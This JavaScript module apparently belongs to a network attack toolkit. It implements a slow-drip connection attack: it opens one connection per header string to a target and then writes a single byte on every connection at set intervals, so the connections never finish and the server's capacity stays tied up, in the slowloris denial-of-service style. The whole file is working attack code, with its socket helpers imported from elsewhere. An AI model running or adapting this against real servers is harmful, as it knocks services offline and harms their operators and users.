// @ts-check
import { Counts } from '../wire/counts.mjs';
import { closeAll, pause, Wire } from '../wire/sockets.mjs';

/** @typedef {import('./attack.mjs').Target} Target */

/**
 * The run of an attack that opens a connection for each head and then keeps sending a piece on all.
 * @param {object} options
 * @param {number} options.interval milliseconds between two pieces
 * @param {(target: Target) => string[]} options.heads
 * @param {string} [options.localAddress]
 * @param {string | Buffer} [options.piece] a byte by default
 * @returns {import('./attack.mjs').Run}
 */
export function dripping({ interval, heads, localAddress, piece = ' ' }) {
  return async (target, signal) => {
    const counts = new Counts();
    const wires = heads(target).map((head) => {
      const wire = new Wire(target, { localAddress });
      wire.write(head);
      return wire;
    });
    for (await pause(interval, signal); !signal.aborted; await pause(interval, signal)) {
      for (const wire of wires) wire.write(piece);
    }
    await closeAll(wires, counts);
    return counts;
  };
}
